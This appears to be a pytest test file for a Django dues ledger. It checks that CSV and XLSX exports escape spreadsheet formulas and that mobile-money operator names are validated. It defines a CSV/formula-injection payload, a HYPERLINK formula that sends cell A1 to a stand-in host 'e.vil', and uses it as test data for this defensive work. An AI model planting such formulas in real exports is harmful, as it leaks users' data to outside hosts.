"""The ledger export carries no live formula, and the mobile-money operator is one the
branch set up, never free text (it reached the export raw: a live formula in XLSX)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError

from dues import money
from dues.models import EntryKind, LedgerEntry
from dues.services import exports
from tests.dues.conftest import JOINED, pay
from tests.factories import MemberFactory
from union.models import Member

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://e.vil/?"&A1,"x")'


@pytest.fixture
def awa(bamako, bko_plan) -> Member:
    return MemberFactory(branch=bamako, working_name="Awa Export", joined_on=JOINED)


@pytest.fixture
def old_entry(treasurer, awa) -> LedgerEntry:
    """A row from before operators were set up, when the field was free text."""
    return LedgerEntry.objects.create(
        member=awa,
        branch_id=awa.branch_id,
        kind=EntryKind.PAYMENT,
        amount=-1000,
        currency="XOF",
        booked_on=money.local_today("Africa/Bamako"),
        method="mobile_money",
        provider=EVIL,
        external_id="OM1",
        recorded_by=treasurer.user,
    )


def _export(treasurer, fmt: str) -> bytes:
    return exports.export_ledger(
        actor=treasurer.user, branch=None, start=None, end=None, fmt=fmt
    ).content


def test_the_ledger_export_to_csv_carries_no_live_formula(treasurer, old_entry):
    rows = list(csv.DictReader(io.StringIO(_export(treasurer, "csv").decode("utf-8-sig"))))
    assert [r["provider"] for r in rows] == ["'" + EVIL]
    assert rows[0]["amount_minor"] == "-1000"  # numbers stay numbers
    assert rows[0]["amount"] == "-1000"


def test_the_ledger_export_to_xlsx_carries_no_live_formula(treasurer, old_entry):
    sheet = openpyxl.load_workbook(io.BytesIO(_export(treasurer, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL in [cell.value for cell in cells]


def test_mobile_money_goes_through_one_of_the_branchs_operators(treasurer, awa):
    with pytest.raises(ValidationError) as refused:
        pay(treasurer, awa, 1000, "R1", method="mobile_money", provider=EVIL, external_id="OM1")
    assert refused.value.message_dict["provider"] == [
        "Choose one of this branch's mobile-money operators: Orange Money, Moov Money."
    ]
    entry = pay(
        treasurer, awa, 1000, "R2", method="mobile_money", provider=" orange  MONEY ",
        external_id="OM2",
    )  # fmt: skip
    assert entry.provider == "Orange Money"  # the branch's own spelling
    assert not LedgerEntry.objects.filter(receipt_number="R1").exists()


def test_a_branch_without_operators_says_so(segou, seg_plan):
    from tests.conftest import _officer
    from union.models import Role

    seg_treasurer = _officer(segou, Role.TREASURER)
    fanta = MemberFactory(branch=segou, joined_on=JOINED)
    with pytest.raises(ValidationError, match="no mobile-money operators set up"):
        pay(
            seg_treasurer, fanta, 1000, "R1", method="mobile_money", provider="Orange Money",
            external_id="OM1",
        )  # fmt: skip
    assert pay(seg_treasurer, fanta, 1000, "R2").method == "cash"  # cash is unaffected


@pytest.mark.parametrize("name", [EVIL, "+Money", "-1", "@op", "", "Orange\tMoney", 5])
def test_a_branch_refuses_an_operator_name_that_is_not_a_name(bamako, name):
    bamako.mobile_money_providers = ["Orange Money", name]
    with pytest.raises(ValidationError):
        bamako.full_clean()


def test_a_branch_takes_plain_operator_names(bamako):
    bamako.mobile_money_providers = ["Orange Money", "Vodacom M-Pesa", "MTN MoMo", "Wave"]
    bamako.full_clean()
